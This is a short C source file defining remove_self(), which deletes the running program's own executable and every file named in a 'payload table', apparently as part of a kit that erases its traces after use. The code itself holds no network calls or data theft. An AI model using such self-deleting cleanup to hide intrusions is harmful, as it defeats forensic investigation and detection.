#include "self_removal.h"

#include "deferred_deletion.h"
#include "kit/own_path.h"
#include "kit/payload_table.h"
#include "platform/family.h"
#include "platform/text.h"

int remove_self() {
  DWORD family;
  if (!platform_family(&family)) return 0;
  remove_file(own_path(), family);
  for (int i = 0; i < MAX_PAIRS && PAYLOAD_NAMES[i][0]; ++i) {
    char path[MAX_PATH];
    bytes_zero(path, MAX_PATH);
    // A path that does not fit would name some other file: skip it.
    if (payload_path(path, MAX_PATH, PAYLOAD_NAMES[i])) remove_file(path, family);
  }
  return 1;
}
